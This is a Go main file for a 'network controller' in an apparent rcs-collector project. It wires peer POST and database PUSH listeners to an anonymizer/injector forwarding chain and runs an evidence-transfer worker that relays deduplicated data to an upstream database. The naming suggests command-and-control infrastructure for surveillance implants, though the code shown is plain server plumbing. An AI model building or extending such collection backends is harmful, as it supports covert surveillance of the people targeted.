// Command controller is the network controller: it binds peer-initiated
// POST requests and DB-originated PUSH requests to the anonymizer/injector
// onion-forwarding fabric, and runs the evidence transfer worker alongside
// it.
//
// Usage:
//
//	# Defaults
//	./controller
//
//	# Custom listen addresses and peer identity
//	LOCAL_INSTANCE=anon-3 LISTEN_ADDRESS=0.0.0.0:9443 ./controller
package main

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/azera85/rcs-collector/internal/config"
	"github.com/azera85/rcs-collector/internal/controller"
	"github.com/azera85/rcs-collector/internal/dbclient"
	"github.com/azera85/rcs-collector/internal/evidence"
	"github.com/azera85/rcs-collector/internal/localstore"
	"github.com/azera85/rcs-collector/internal/management"
	"github.com/azera85/rcs-collector/internal/metrics"
	"github.com/azera85/rcs-collector/internal/tracelog"
)

func main() {
	cfg := config.Load()
	printBanner(cfg)

	log := tracelog.NewController("controller", cfg.LogLevel)
	m := metrics.New()

	db := dbclient.New(cfg.UpstreamDBURL, cfg.UpstreamDBToken, log)

	store, err := localstore.Open(cfg.EvidenceStoreFile)
	if err != nil {
		log.Fatalf("boot", "cannot open evidence store: %v", err)
	}
	defer store.Close() //nolint:errcheck

	seen, err := evidence.NewDedup(cfg.EvidenceDedupFile, cfg.EvidenceDedupCapacity, log)
	if err != nil {
		log.Fatalf("boot", "cannot open evidence dedup store: %v", err)
	}
	defer seen.Close() //nolint:errcheck

	worker := evidence.New(db, store, seen, log, m)
	if err := worker.SendCached(context.Background()); err != nil {
		log.Errorf("boot", "seeding evidence queue from local store failed: %v", err)
	}

	workerCtx, stopWorker := context.WithCancel(context.Background())
	go worker.Start(workerCtx)

	ctl := controller.New(db, cfg.LocalInstance, log, m)

	peerSrv := newServer(cfg.ListenAddress, peerHandler(ctl))
	pushSrv := newServer(cfg.PushListenAddress, pushHandler(ctl))

	mgmt := management.New(cfg, db, m)
	go func() {
		if err := mgmt.ListenAndServe(); err != nil && err != http.ErrServerClosed {
			log.Fatalf("boot", "management server: %v", err)
		}
	}()

	go func() {
		log.Infof("boot", "peer listener on %s", cfg.ListenAddress)
		if err := peerSrv.ListenAndServe(); err != nil && err != http.ErrServerClosed {
			log.Fatalf("boot", "peer listener: %v", err)
		}
	}()
	go func() {
		log.Infof("boot", "push listener on %s", cfg.PushListenAddress)
		if err := pushSrv.ListenAndServe(); err != nil && err != http.ErrServerClosed {
			log.Fatalf("boot", "push listener: %v", err)
		}
	}()

	quit := make(chan os.Signal, 1)
	signal.Notify(quit, syscall.SIGINT, syscall.SIGTERM)
	<-quit
	log.Infof("shutdown", "signal received, shutting down")

	shutdownCtx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
	defer cancel()
	if err := peerSrv.Shutdown(shutdownCtx); err != nil {
		log.Errorf("shutdown", "peer listener shutdown error: %v", err)
	}
	if err := pushSrv.Shutdown(shutdownCtx); err != nil {
		log.Errorf("shutdown", "push listener shutdown error: %v", err)
	}

	if err := worker.Stop(cfg.EvidenceShutdownDrain()); err != nil {
		log.Errorf("shutdown", "evidence worker drain: %v", err)
	}
	stopWorker()
}

func newServer(addr string, h http.Handler) *http.Server {
	return &http.Server{
		Addr:              addr,
		Handler:           h,
		ReadHeaderTimeout: 10 * time.Second,
	}
}

// peerHandler accepts only POST, the wire contract for the peer-facing
// listener.
func peerHandler(ctl *controller.Controller) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Error(w, "POST only", http.StatusMethodNotAllowed)
			return
		}
		serveAct(ctl, w, r)
	}
}

// pushHandler accepts only PUSH, the local DB's outbound-forward trigger.
func pushHandler(ctl *controller.Controller) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if r.Method != "PUSH" {
			http.Error(w, "PUSH only", http.StatusMethodNotAllowed)
			return
		}
		serveAct(ctl, w, r)
	}
}

func serveAct(ctl *controller.Controller, w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(r.Body)
	if err != nil {
		http.Error(w, "read error: "+err.Error(), http.StatusInternalServerError)
		return
	}
	meta := controller.RequestMeta{
		Cookie:        r.Header.Get("Cookie"),
		XForwardedFor: r.Header.Get("X-Forwarded-For"),
	}
	status, resp, cookie := ctl.Act(r.Context(), r.Method, r.URL.Path, body, meta)
	if status == 0 {
		http.Error(w, "method not supported", http.StatusMethodNotAllowed)
		return
	}
	if cookie != "" {
		w.Header().Set("Set-Cookie", "ID="+cookie)
	}
	w.WriteHeader(status)
	w.Write(resp) //nolint:errcheck
}

func printBanner(cfg *config.Config) {
	fmt.Printf(`
╔══════════════════════════════════════════════════════╗
║          Network Controller  (Go)                    ║
╚══════════════════════════════════════════════════════╝
  Local instance    : %s
  Peer listener     : %s
  Push listener     : %s
  Management port   : %d
  Upstream database : %s

  Check status:
    curl http://127.0.0.1:%d/status
`, cfg.LocalInstance, cfg.ListenAddress, cfg.PushListenAddress,
		cfg.ManagementPort, cfg.UpstreamDBURL, cfg.ManagementPort)
}
